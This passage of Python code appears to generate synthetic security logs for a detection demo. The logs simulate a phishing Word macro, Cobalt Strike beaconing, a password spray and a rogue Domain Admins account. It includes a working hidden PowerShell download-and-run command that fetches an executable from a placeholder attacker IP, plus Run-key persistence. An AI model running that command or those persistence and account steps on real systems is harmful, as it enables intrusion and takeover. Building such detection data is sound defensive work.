                       f"http://{t.PHISH_DOMAIN}{asset}", user, t.PHISH_IP, ctype)
        cur += timedelta(seconds=19)
        self.squid(cur, 1_204, pc.ip, "TCP_MISS", 200, 188_416, "GET", doc_url, user, t.PHISH_IP,
                   "application/msword")
        # Word opens the document; its macro starts an encoded, hidden PowerShell.
        word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
        doc_path = f"C:\\Users\\{user}\\Downloads\\QD-2417-UBND-KhenThuong.doc"
        cur += timedelta(seconds=34)
        word_cmd = f'"{word}" /n "{doc_path}" /o ""'
        _, word_pid = self.sysmon_process(cur, pc, word, word_cmd, "Microsoft Word", "Microsoft Office",
                                          "Microsoft Corporation", "C:\\Windows\\explorer.exe",
                                          "C:\\Windows\\Explorer.EXE", 5124, pid=7340, original="WinWord.exe")
        script = ("$w=New-Object Net.WebClient;$w.Proxy=[Net.WebRequest]::GetSystemWebProxy();"
                  "$w.Proxy.Credentials=[Net.CredentialCache]::DefaultCredentials;"
                  '$p="$env:TEMP\\OneDriveUpdater.exe";'
                  f"$w.DownloadFile('http://{t.PHISH_IP}/dl/OneDriveUpdater.exe',$p);Start-Process $p")
        enc = base64.b64encode(script.encode("utf-16le")).decode()
        ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
        cur += timedelta(seconds=9)
        _, ps_pid = self.sysmon_process(cur, pc, ps, f"powershell.exe -nop -w hidden -enc {enc}", "Windows PowerShell",
                                        "Microsoft® Windows® Operating System", "Microsoft Corporation", word,
                                        word_cmd, word_pid, pid=8816, original="PowerShell.EXE")
        cur += timedelta(seconds=2)
        self.sysmon_network(cur, pc, ps, ps_pid, t.CITY_PROXY_IP, t.CITY_PROXY_PORT)
        # The executable comes through the proxy (an IP-literal URL).
        cur += timedelta(seconds=1)
        self.squid(cur, 2_811, pc.ip, "TCP_MISS", 200, 319_488, "GET", f"http://{t.PHISH_IP}/dl/OneDriveUpdater.exe",
                   user, t.PHISH_IP, "application/x-msdownload")
        dropped = f"C:\\Users\\{user}\\AppData\\Local\\Temp\\OneDriveUpdater.exe"
        self.sysmon_file(cur + timedelta(milliseconds=200), pc, ps, ps_pid, dropped)
        cur += timedelta(seconds=3)
        _, imp_pid = self.sysmon_process(cur, pc, dropped, f'"{dropped}"', "-", "-", "-", ps,
                                         f"powershell.exe -nop -w hidden -enc {enc}", ps_pid, pid=9032,
                                         original="-")
        self.sysmon_registry(cur + timedelta(seconds=4), pc, dropped, imp_pid,
                             f"HKU\\{_sid(1104)}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate",
                             dropped)
        # The implant tries to fetch its second stage directly; the FortiGate's antivirus blocks it.
        cur += timedelta(seconds=26)
        session = self.new_session(fw)
        sport = self.eport()
        self.fgt(cur, fw, "0211008192", "utm", "virus", "warning", [
            ("msg", "File is infected."), ("action", "blocked"), ("service", "HTTP"), ("sessionid", session),
            ("srcip", Bare(pc.ip)), ("dstip", Bare(t.PHISH_IP)), ("srcport", sport), ("dstport", 80),
            ("srccountry", "Reserved"), ("dstcountry", self._country(t.PHISH_IP)),
            ("srcintf", fw.lan), ("srcintfrole", "lan"), ("dstintf", fw.wan), ("dstintfrole", "wan"),
            ("policyid", self._policy(fw, "LAN-Direct-M365-Zalo")[0]), ("proto", 6), ("direction", "incoming"),
            ("filename", "msupd.dll"), ("quarskip", "File-was-not-quarantined"),
            ("virus", "W64/CobaltStrike.C!tr"), ("viruscat", "Virus"), ("dtype", "av-engine"),
            ("ref", "http://www.fortinet.com/ve?vn=W64%2FCobaltStrike.C%21tr"), ("virusid", 8_237_155),
            ("url", f"http://{t.PHISH_IP}/dl/msupd.dll"), ("profile", "av-co-quan"),
            ("agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko"),
            ("analyticscksum", _hex("msupd.dll", 64).lower()), ("analyticssubmit", "false"),
            ("crscore", 50), ("craction", 2), ("crlevel", "critical")], eventtype="infected")
        self.traffic(cur + timedelta(seconds=1), fw, src=pc.ip, sport=sport, dst=t.PHISH_IP, dport=80, sintf=fw.lan,
                     dintf=fw.wan, policy="LAN-Direct-M365-Zalo", duration=1, sent=620, rcvd=31_200, nat="snat",
                     session=session, utm={"utmaction": "block", "countav": 1}, level="warning")
        # Beaconing to the C2 domain through the proxy: every ~60 s with jitter, until the end of the window.
        cur += timedelta(seconds=31)
        beacon = f"http://{t.C2_DOMAIN}/api/v2/sync?cid=7f3a9c2e41b8"
        n = 0
        while cur < self.end - timedelta(seconds=5):
            n += 1
            if n % 9 == 0:
                self.squid(cur, rng.randint(120, 400), pc.ip, "TCP_MISS", 200, rng.randint(180, 2_600), "POST",
                           f"http://{t.C2_DOMAIN}/api/v2/upload?cid=7f3a9c2e41b8", user, t.C2_IP, "text/plain")
            else:
                self.squid(cur, rng.randint(90, 350), pc.ip, "TCP_MISS", 200, rng.randint(412, 436), "GET", beacon,
                           user, t.C2_IP, "application/octet-stream")
            cur += timedelta(seconds=60 * rng.uniform(0.85, 1.15))

    def sysmon_network(self, ts: datetime, host: t.Host, image: str, pid: int, dst: str, dport: int) -> None:
        utc = ts.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.") + f"{ts.microsecond // 1000:03d}"
        data = {"RuleName": "-", "UtcTime": utc, "ProcessGuid": _guid(self.rng), "ProcessId": str(pid),
                "Image": image, "User": f"{t.LC_DOMAIN}\\{host.user}", "Protocol": "tcp", "Initiated": "true",
                "SourceIsIpv6": "false", "SourceIp": host.ip, "SourceHostname": f"{host.name}.lechan.local",
                "SourcePort": str(self.eport()), "SourcePortName": "-", "DestinationIsIpv6": "false",
                "DestinationIp": dst, "DestinationHostname": "-", "DestinationPort": str(dport),
                "DestinationPortName": "-"}
        msg = "Network connection detected:\n" + "\n".join(f"{k}: {v}" for k, v in data.items())
        self.winlog(ts, host, "Microsoft-Windows-Sysmon/Operational", 3, "Microsoft-Windows-Sysmon",
                    "Network connection detected (rule: NetworkConnect)", data, msg)

    def sysmon_file(self, ts: datetime, host: t.Host, image: str, pid: int, target: str) -> None:
        utc = ts.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.") + f"{ts.microsecond // 1000:03d}"
        data = {"RuleName": "EXE", "UtcTime": utc, "ProcessGuid": _guid(self.rng), "ProcessId": str(pid),
                "Image": image, "TargetFilename": target, "CreationUtcTime": utc,
                "User": f"{t.LC_DOMAIN}\\{host.user}"}
        msg = "File created:\n" + "\n".join(f"{k}: {v}" for k, v in data.items())
        self.winlog(ts, host, "Microsoft-Windows-Sysmon/Operational", 11, "Microsoft-Windows-Sysmon",
                    "File created (rule: FileCreate)", data, msg)

    def sysmon_registry(self, ts: datetime, host: t.Host, image: str, pid: int, key: str, value: str) -> None:
        utc = ts.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.") + f"{ts.microsecond // 1000:03d}"
        data = {"RuleName": "T1060,RunKey", "EventType": "SetValue", "UtcTime": utc, "ProcessGuid": _guid(self.rng),
                "ProcessId": str(pid), "Image": image, "TargetObject": key, "Details": value,
                "User": f"{t.LC_DOMAIN}\\{host.user}"}
        msg = "Registry value set:\n" + "\n".join(f"{k}: {v}" for k, v in data.items())
        self.winlog(ts, host, "Microsoft-Windows-Sysmon/Operational", 13, "Microsoft-Windows-Sysmon",
                    "Registry value set (rule: RegistryEvent)", data, msg)

    def password_spray(self, t0: datetime) -> None:
        """(e, cont.) From the infected workstation: NTLM password spray on the DC, success, new admin account."""
        rng, pc, dc = self.rng, t.LC_VICTIM, t.LC_DC
        users = [u for u, _ in t.LC_USERS if u != pc.user] + ["administrator", "admin", "quantri", "backup"]
        cur = t0
        for user in users:
            cur += timedelta(milliseconds=rng.randint(1_500, 4_000))
            sub = "0xc0000064" if user in ("admin", "quantri", "backup") else "0xc000006a"
            if user == t.LC_HELPDESK:
                continue
            self.security_failed(cur, dc, user, pc.ip, pc.name, sub)
        cur += timedelta(seconds=rng.randint(5, 15))
        self.security_logon(cur, dc, t.LC_HELPDESK, pc.ip, 3, "NtLmSsp ", "NTLM", pc.name)
        # A new account, enabled and put in Domain Admins by the helpdesk account.
        cur += timedelta(minutes=3, seconds=rng.randint(0, 50))
        subject = {"SubjectDomainName": t.LC_DOMAIN, "SubjectLogonId": "0x5a91c3e",
                   "SubjectUserName": t.LC_HELPDESK, "SubjectUserSid": _sid(1107)}
        new_user, new_sid = "svc_sync", _sid(2215)
        created = {**subject, "AccountExpires": "%%1794", "AllowedToDelegateTo": "-", "DisplayName": "%%1793",
                   "HomeDirectory": "%%1793", "HomePath": "%%1793", "LogonHours": "%%1797", "NewUacValue": "0x15",
                   "OldUacValue": "0x0", "PasswordLastSet": "%%1794", "PrimaryGroupId": "513", "PrivilegeList": "-",
                   "ProfilePath": "%%1793", "SamAccountName": new_user, "ScriptPath": "%%1793", "SidHistory": "-",
                   "TargetDomainName": t.LC_DOMAIN, "TargetSid": new_sid, "TargetUserName": new_user,
                   "UserAccountControl": "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084", "UserParameters": "%%1793",
                   "UserPrincipalName": "-", "UserWorkstations": "%%1793"}
        msg = ("A user account was created.\n\nSubject:\n"
               f"\tSecurity ID:\t\t{subject['SubjectUserSid']}\n\tAccount Name:\t\t{t.LC_HELPDESK}\n"
               f"\tAccount Domain:\t\t{t.LC_DOMAIN}\n\tLogon ID:\t\t0x5A91C3E\n\nNew Account:\n"
               f"\tSecurity ID:\t\t{new_sid}\n\tAccount Name:\t\t{new_user}\n\tAccount Domain:\t\t{t.LC_DOMAIN}\n\n"
               "Attributes:\n\tSAM Account Name:\tsvc_sync\n\tDisplay Name:\t\t<value not set>\n"
               "\tUser Principal Name:\t-\n\tHome Directory:\t\t<value not set>\n\tHome Drive:\t\t<value not set>\n"
               "\tScript Path:\t\t<value not set>\n\tProfile Path:\t\t<value not set>\n"
               "\tUser Workstations:\t<value not set>\n\tPassword Last Set:\t<never>\n\tAccount Expires:\t\t<never>\n"
               "\tPrimary Group ID:\t513\n\tAllowed To Delegate To:\t-\n\tOld UAC Value:\t\t0x0\n"
               "\tNew UAC Value:\t\t0x15\n\tUser Account Control:\t\n\t\tAccount Disabled\n"
               "\t\t'Password Not Required' - Enabled\n\t\t'Normal Account' - Enabled\n"
               "\tUser Parameters:\t<value not set>\n\tSID History:\t\t-\n\tLogon Hours:\t\tAll\n\n"
               "Additional Information:\n\tPrivileges\t\t-")
        self.winlog(cur, dc, "Security", 4720, "Microsoft-Windows-Security-Auditing", "User Account Management",
                    created, msg, "success", ["Audit Success"])
        cur += timedelta(seconds=rng.randint(20, 60))
        enabled = {**subject, "TargetDomainName": t.LC_DOMAIN, "TargetSid": new_sid, "TargetUserName": new_user}
        self.winlog(cur, dc, "Security", 4722, "Microsoft-Windows-Security-Auditing", "User Account Management",
                    enabled, "A user account was enabled.\n\nSubject:\n"
                             f"\tSecurity ID:\t\t{subject['SubjectUserSid']}\n\tAccount Name:\t\t{t.LC_HELPDESK}\n"
                             f"\tAccount Domain:\t\t{t.LC_DOMAIN}\n\tLogon ID:\t\t0x5A91C3E\n\nTarget Account:\n"
                             f"\tSecurity ID:\t\t{new_sid}\n\tAccount Name:\t\t{new_user}\n"
                             f"\tAccount Domain:\t\t{t.LC_DOMAIN}", "success", ["Audit Success"])
        cur += timedelta(seconds=rng.randint(20, 60))
        member_dn = f"CN={new_user},CN=Users,DC=lechan,DC=local"
        added = {**subject, "MemberName": member_dn, "MemberSid": new_sid, "PrivilegeList": "-",
                 "TargetDomainName": t.LC_DOMAIN, "TargetSid": _sid(512), "TargetUserName": "Domain Admins"}
        self.winlog(cur, dc, "Security", 4728, "Microsoft-Windows-Security-Auditing", "Security Group Management",
                    added, "A member was added to a security-enabled global group.\n\nSubject:\n"
                           f"\tSecurity ID:\t\t{subject['SubjectUserSid']}\n\tAccount Name:\t\t{t.LC_HELPDESK}\n"
                           f"\tAccount Domain:\t\t{t.LC_DOMAIN}\n\tLogon ID:\t\t0x5A91C3E\n\nMember:\n"
                           f"\tSecurity ID:\t\t{new_sid}\n\tAccount Name:\t\t{member_dn}\n\nGroup:\n"
                           f"\tSecurity ID:\t\t{_sid(512)}\n\tGroup Name:\t\tDomain Admins\n"
                           f"\tGroup Domain:\t\t{t.LC_DOMAIN}\n\nAdditional Information:\n\tPrivileges:\t\t-",
                    "success", ["Audit Success"])

    def run(self) -> Out:
        self.background()
        self.attack()
        return self.out


def parse_start(text: str | None) -> datetime:
    if not text:
        return (datetime.now(UTC) - SPAN).replace(microsecond=0)
    try:
        dt = datetime.fromisoformat(text)
    except ValueError:
        raise SystemExit(f"--start {text!r} is not an ISO 8601 time; use e.g. 2026-11-30T08:00:00+07:00") from None
    return dt if dt.tzinfo else dt.replace(tzinfo=VN)


def generate(start: datetime, out_dir: Path, seed: int = DEFAULT_SEED) -> dict[str, int]:
    """Write the five files for the window starting at ``start``; returns lines per file."""
    return Demo(start, seed).run().write(out_dir)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--start", help="first instant of the 3-hour window, ISO 8601 (default: now minus 3 hours; "
                                    "no offset means Vietnam time)")
    ap.add_argument("--out", default="demo/out", help="output directory (default: demo/out)")
    ap.add_argument("--seed", type=int, default=DEFAULT_SEED, help="random seed (same seed and start, same files)")
    args = ap.parse_args(argv)
    start = parse_start(args.start)
    out_dir = Path(args.out)
    try:
        counts = generate(start, out_dir, args.seed)
    except OSError as exc:
        print(f"cannot write to {out_dir}: {exc}; choose another --out", file=sys.stderr)
        return 1
    lt = start.astimezone(VN)
    print(f"demo logs for {lt:%Y-%m-%d %H:%M} to {(lt + SPAN):%H:%M} (UTC+7) in {out_dir}:")
    for name, n in counts.items():
        print(f"  {name:<14} {n:>6} lines")
    print(f"  {'total':<14} {sum(counts.values()):>6} lines")
    return 0


if __name__ == "__main__":
    sys.exit(main())
